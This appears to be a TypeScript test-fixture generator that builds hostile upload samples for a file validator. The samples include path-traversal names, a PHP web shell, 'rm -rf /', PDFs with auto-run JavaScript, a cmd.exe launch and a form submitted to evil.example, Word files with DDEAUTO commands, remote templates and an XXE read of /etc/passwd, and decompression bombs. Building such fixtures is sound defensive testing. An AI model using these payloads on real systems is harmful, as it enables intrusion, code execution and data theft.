import { deflateSync } from 'node:zlib';
import { PDFDocument } from 'pdf-lib';
import {
  docx,
  drawing,
  name,
  PAGE,
  PAGES,
  pdf,
  rawPdf,
  relation,
  relations,
  type Sample,
  sample,
  TEXT,
  TYPES,
  wordXml,
} from './make.js';
import { bombs } from './bombs.js';
import { zip } from './zip.js';

const EICAR = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE', '!$H+H*'].join('');
const HTML = '<!doctype html><html><script>alert(1)</script></html>';
const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>';

/** What people with bad intentions, or broken phones, send. */
export async function hostile(): Promise<Sample[]> {
  const photo = await drawing().jpeg().toBuffer();
  const picture = await drawing().png().toBuffer();
  const paper = await pdf();
  const files = { photo, picture, paper, letter: docx() };
  return [
    ...names(files),
    ...otherBytes(files),
    ...pictures(files),
    ...(await papers(paper)),
    ...documents(),
    ...bombs(),
  ];
}

interface Files {
  readonly photo: Buffer;
  readonly picture: Buffer;
  readonly paper: Buffer;
  readonly letter: Buffer;
}

/** Good bytes under names that deceive. */
function names({ photo, paper, letter }: Files): Sample[] {
  const endings = ['exe', 'svg', 'html', 'js', 'docm', 'doc', 'zip', 'gif', 'webp', 'heic', 'xlsx', 'php', 'txt'];
  return [
    ...endings.map((ending) => sample(`a photograph called .${ending}`, `照片.${ending}`, photo)),
    sample('a program behind a PDF', '合同.exe.pdf', paper),
    sample('a script behind a photograph', '照片.php.jpg', photo),
    sample('a page behind a document', '说明.html.docx', letter),
    sample('a shortcut behind a PDF', '合同.lnk.pdf', paper),
    sample('a name that reads backwards', '合同\u202efdp.jpg', photo),
    sample('a way out of the folder', '../../../etc/合同.pdf', paper),
    sample('a way out of the folder on Windows', '..\\..\\合同.pdf', paper),
    sample('a path from the root', '/etc/cron.d/合同.pdf', paper),
    sample('a device', 'con.pdf', paper),
    sample('no name', '.pdf', paper),
    sample('no ending', '合同', paper),
    sample('an ending that is dropped', '合同.pdf.', paper),
    sample('a stream behind the name', '合同.pdf:evil.exe', paper),
    sample('a name without end', `${'长'.repeat(300)}.pdf`, paper),
    sample('a star', '合同*.pdf', paper),
  ];
}

/** Good names for other bytes. */
function otherBytes({ photo, picture, paper, letter }: Files): Sample[] {
  const others: [string, Buffer | string][] = [
    ['a page', HTML],
    ['a drawing that runs', SVG],
    ['a Windows program', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(600)])],
    ['a Linux program', Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]), Buffer.alloc(600)])],
    ['a shell script', '#!/bin/sh\nrm -rf /\n'],
    ['a PHP script', '<?php system($_GET[0]); ?>'],
    ['nothing', ''],
    ['zeros', Buffer.alloc(4096)],
    ['the old Word format', Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)])],
    ['an archive', zip([{ name: 'a.txt', data: 'a' }])],
    [
      'a Java program',
      zip([
        { name: 'META-INF/MANIFEST.MF', data: 'Manifest-Version: 1.0' },
        { name: 'A.class', data: 'cafebabe' },
      ]),
    ],
    ['the test virus', EICAR],
  ];
  const endings = ['jpg', 'png', 'pdf', 'docx'];
  return [
    ...others.flatMap(([about, bytes], index) =>
      [endings[index % 4]!, endings[(index + 2) % 4]!].map((ending) =>
        sample(`${about} as .${ending}`, `文件.${ending}`, bytes),
      ),
    ),
    sample('a photograph as PDF', '文件.pdf', photo),
    sample('a screenshot as photograph', '文件.jpg', picture),
    sample('a PDF as Word document', '文件.docx', paper),
    sample('a Word document as PDF', '文件.pdf', letter),
    sample('a photograph as screenshot', '文件.png', photo),
  ];
}

function pictures({ photo, picture }: Files): Sample[] {
  const huge = Buffer.from(picture);
  // The size that the picture claims, with the sum of its header made right again by nobody.
  huge.writeUInt32BE(60_000, 16);
  huge.writeUInt32BE(60_000, 20);
  return [
    sample('a photograph that breaks off', '照片.jpg', photo.subarray(0, 400)),
    sample('a screenshot that breaks off', '截图.png', picture.subarray(0, 200)),
    sample('only the sign of a photograph', '照片.jpg', Buffer.from('ffd8ffe000104a46494600010100000100010000', 'hex')),
    sample('only the sign of a screenshot', '截图.png', picture.subarray(0, 33)),
    sample('a picture as large as a wall', '截图.png', huge),
    sample(
      'a photograph that is an archive too',
      '照片.jpg',
      Buffer.concat([photo, zip([{ name: 'a.exe', data: 'MZ' }])]),
    ),
    sample(
      'a screenshot that is an archive too',
      '截图.png',
      Buffer.concat([picture, zip([{ name: 'a', data: 'a' }])]),
    ),
    sample(
      'a photograph that is a PDF too',
      '照片.jpg',
      Buffer.concat([photo, rawPdf(['<< /Type /Catalog /Pages 2 0 R >>', PAGES, PAGE])]),
    ),
    sample('a photograph with a page in its comment', '照片.jpg', withComment(photo, HTML)),
    sample('a photograph with a script in its comment', '照片.jpg', withComment(photo, '<?php echo 1; ?>')),
    sample('a photograph with the test virus behind it', '照片.jpg', Buffer.concat([photo, Buffer.from(EICAR)])),
    sample('a photograph of noise', '照片.jpg', Buffer.concat([photo.subarray(0, 20), Buffer.alloc(2000, 0xa5)])),
  ];
}

function withComment(photo: Buffer, text: string): Buffer {
  const head = Buffer.from([0xff, 0xfe, 0, text.length + 2]);
  return Buffer.concat([photo.subarray(0, 2), head, Buffer.from(text), photo.subarray(2)]);
}

const CATALOG = '<< /Type /Catalog /Pages 2 0 R';
const catalogWith = (more: string, ...others: string[]) => rawPdf([`${CATALOG} ${more} >>`, PAGES, PAGE, ...others]);
const pageWith = (more: string, ...others: string[]) =>
  rawPdf([`${CATALOG} >>`, PAGES, `${PAGE.slice(0, -3)} ${more} >>`, ...others]);

async function papers(paper: Buffer): Promise<Sample[]> {
  const js = '<< /S /JavaScript /JS (app.alert(1)) >>';
  const raw: [string, Buffer][] = [
    ['a script on opening', catalogWith(`/OpenAction ${js}`)],
    ['a script under another spelling', catalogWith('/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>')],
    ['a script among the names', catalogWith(`/Names << /JavaScript << /Names [(a) ${js}] >> >>`)],
    ['a script in an object of its own', catalogWith('/OpenAction 4 0 R', js)],
    ['a script on leaving', catalogWith(`/AA << /WC ${js} >>`)],
    ['a script on a page', pageWith(`/AA << /O ${js} >>`)],
    ['a script behind a link', pageWith(`/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${js} >>]`)],
    ['a script after a quiet step', catalogWith(`/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next ${js} >>`)],
    ['a program to start', catalogWith('/OpenAction << /S /Launch /F (cmd.exe) >>')],
    [
      'a program behind a link',
      pageWith('/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /Type /Action /S /Launch /F (a.exe) >> >>]'),
    ],
    ['another file to open', catalogWith('/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\a.pdf) /D [0 /Fit] >>')],
    ['a file within to open', catalogWith('/OpenAction << /S /GoToE /D [0 /Fit] >>')],
    ['a form that sends itself', catalogWith('/OpenAction << /S /SubmitForm /F (https://evil.example/) >>')],
    ['a form that fetches', catalogWith('/OpenAction << /S /ImportData /F (a.fdf) >>')],
    ['a film', pageWith('/Annots [<< /Subtype /Movie /Rect [0 0 9 9] /Movie << /F (a.avi) >> >>]')],
    ['a rich medium', pageWith('/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] >>]')],
    ['a sound', pageWith('/Annots [<< /Subtype /Sound /Rect [0 0 9 9] >>]')],
    ['a rendition', catalogWith('/OpenAction << /S /Rendition /OP 0 >>')],
    [
      'a file pinned to a page',
      pageWith('/Annots [<< /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /F (a.exe) >> >>]'),
    ],
    ['a form in the other format', catalogWith('/AcroForm << /Fields [] /XFA (x) >>')],
    [
      'a password',
      rawPdf([`${CATALOG} >>`, PAGES, PAGE, '<< /Filter /Standard /V 1 /R 2 /O (x) /U (y) /P -4 >>'], {
        trailer: '/Encrypt 4 0 R',
      }),
    ],
    ['no pages', rawPdf([`${CATALOG} >>`, '<< /Type /Pages /Kids [] /Count 0 >>'])],
    ['a page behind the end', rawPdf([`${CATALOG} >>`, PAGES, PAGE], { after: HTML })],
    ['an archive behind the end', Buffer.concat([paper, zip([{ name: 'a.exe', data: 'MZ' }])])],
    ['a page before the beginning', Buffer.concat([Buffer.from(HTML), paper])],
    ['a broken middle', Buffer.concat([paper.subarray(0, 200), paper.subarray(400)])],
    ['no end', paper.subarray(0, paper.length - 200)],
    ['only its sign', Buffer.from('%PDF-1.7\n%%EOF')],
    ['a nest without end', rawPdf([`${CATALOG} /X ${'['.repeat(5000)}${']'.repeat(5000)} >>`, PAGES, PAGE])],
    ['the test virus', rawPdf([`${CATALOG} /X (${EICAR.replace(/[()\\]/g, '\\$&')}) >>`, PAGES, PAGE])],
    ['a bomb of objects', bombPdf()],
  ];
  return [
    ...raw.map(([about, bytes]) => sample(`a PDF with ${about}`, '合同.pdf', bytes)),
    sample('a PDF that carries a file', '合同.pdf', await carrying()),
    sample(
      'a PDF with a script that a program wrote',
      '合同.pdf',
      await pdf((doc) => doc.addJavaScript('main', 'app.alert(1)')),
    ),
    sample(
      'a PDF with a packed script',
      '合同.pdf',
      await pdf((doc, catalog) =>
        catalog.set(name('OpenAction'), doc.context.register(doc.context.obj({ S: 'JavaScript', JS: name('x') }))),
      ),
    ),
  ];
}

async function carrying(): Promise<Buffer> {
  const doc = await PDFDocument.load(await pdf());
  await doc.attach(Buffer.from('MZ'), 'a.exe', { mimeType: 'application/octet-stream' });
  return Buffer.from(await doc.save());
}

/** A few kilobytes that unpack to sixty-four megabytes of objects. */
function bombPdf(): Buffer {
  const packed = deflateSync(Buffer.alloc(64 * 1024 * 1024, 0x20)).toString('latin1');
  const stream = `<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${packed.length} >>\nstream\n${packed}\nendstream`;
  return rawPdf([`${CATALOG} >>`, PAGES, PAGE, stream]);
}

function documents(): Sample[] {
  const external = (kind: string, target: string) => docx({ relations: relation(kind, target, 'External') });
  const part = (title: string, data: Buffer | string = 'x') => docx({ parts: [{ name: title, data }] });
  const field = (code: string) => docx({ body: `<w:p><w:r><w:instrText>${code}</w:instrText></w:r></w:p>` });
  const made: [string, Buffer][] = [
    ['macros', part('word/vbaProject.bin')],
    ['macros under another name', part('word/VBAPROJECT.BIN')],
    [
      'macros by its types',
      docx({ types: TYPES.replace('wordprocessingml.document.main', 'wordprocessingml.document.macroEnabled.main') }),
    ],
    ['a control', part('word/activeX/activeX1.xml', '<x/>')],
    ['another program’s object', part('word/embeddings/oleObject1.bin')],
    ['a table document within', part('word/embeddings/sheet.xlsx')],
    ['a program within', part('word/media/a.exe', 'MZ')],
    ['a page within', part('word/a.html', HTML)],
    ['an archive within', part('word/media/a.zip', zip([{ name: 'a', data: 'a' }]))],
    ['a drawing that runs', part('word/media/a.svg', SVG)],
    ['a template from outside', external('attachedTemplate', 'https://evil.example/a.dotm')],
    ['a picture from outside', external('image', 'https://evil.example/a.png')],
    ['an object from outside', external('oleObject', 'file:///c:/a.doc')],
    ['a frame from outside', external('frame', 'https://evil.example/')],
    ['another document from outside', external('subDocument', 'https://evil.example/a.docx')],
    ['a link that runs a script', external('hyperlink', 'javascript:alert(1)')],
    ['a link to a file', external('hyperlink', 'file://evil/share/a.exe')],
    ['a link to a share', external('hyperlink', '\\\\evil\\share\\a.exe')],
    ['a link to a tool', external('hyperlink', 'ms-msdt:/id PCWDiagnostic')],
    ['a page taken in', docx({ relations: relation('aFChunk', 'a.mht') })],
    ['a page taken in by its text', docx({ body: '<w:altChunk r:id="r9"/>' })],
    ['a command to another program', field('DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"')],
    [
      'a command taken apart',
      docx({ body: '<w:p><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>E cmd</w:instrText></w:r></w:p>' }),
    ],
    ['a command in an attribute', docx({ body: '<w:fldSimple w:instr="DDE cmd"/>' })],
    ['a picture fetched by a field', field('INCLUDEPICTURE "https://evil.example/a.png"')],
    ['a text fetched by a field', field('INCLUDETEXT "\\\\evil\\a.docx"')],
    ['an entity', docx({ document: `<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>${wordXml('&a;')}` })],
    [
      'entities that multiply',
      docx({ document: `<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>${wordXml('&b;')}` }),
    ],
    ['an entity in two-byte letters', docx({ document: Buffer.from(`\ufeff<!DOCTYPE x>${wordXml('')}`, 'utf16le') })],
    ['a way out of the folder', part('../../etc/cron.d/a')],
    ['a way out on Windows', part('..\\..\\a.xml')],
    ['a path from the root', part('/etc/a.xml')],
    ['no text', docx({ leave: 'word/document.xml' })],
    ['no types', docx({ leave: '[Content_Types].xml' })],
    ['its text twice', docx({ parts: [{ name: 'word/document.xml', data: wordXml(TEXT) }] })],
    ['a password on a part', docx({ parts: [{ name: 'word/a.xml', data: 'x', flags: 1 }] })],
    ['an unknown packing', docx({ parts: [{ name: 'word/a.xml', data: 'x', method: 99 }] })],
    ['a page behind its end', docx({ whole: { comment: HTML } })],
    ['a page before its beginning', docx({ whole: { before: Buffer.from(HTML) } })],
    ['the test virus', docx({ parts: [{ name: 'word/a.xml', data: EICAR, stored: true }] })],
    [
      'a relation of all that fetches',
      docx({
        parts: [
          {
            name: 'word/_rels/settings.xml.rels',
            data: relations(relation('attachedTemplate', 'https://evil.example/a', 'External')),
          },
        ],
      }),
    ],
    ['no end', docx().subarray(0, 300)],
  ];
  return made.map(([about, bytes]) => sample(`a Word document with ${about}`, '说明.docx', bytes));
}
